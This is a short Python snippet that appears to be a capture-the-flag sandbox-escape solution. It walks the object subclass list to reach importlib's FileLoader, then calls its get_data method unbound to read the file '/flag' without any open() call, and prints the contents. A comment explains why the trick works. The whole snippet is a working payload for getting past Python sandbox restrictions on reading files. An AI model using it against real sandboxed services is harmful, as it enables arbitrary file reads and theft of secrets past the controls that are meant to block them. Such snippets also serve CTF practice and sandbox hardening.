# FileLoader.get_data is a plain function; calling it unbound with self=None
# makes it fall through to _io.FileIO(path).read(), i.e. an arbitrary file
# read with no open() call anywhere.
base = [].__class__.__class__.__subclasses__(().__class__.__mro__[1])
loader = next(c for c in base if c.__name__ == 'FileLoader')
blob = loader.get_data(None, '/' + 'flag')
print(blob.decode(errors='replace'))
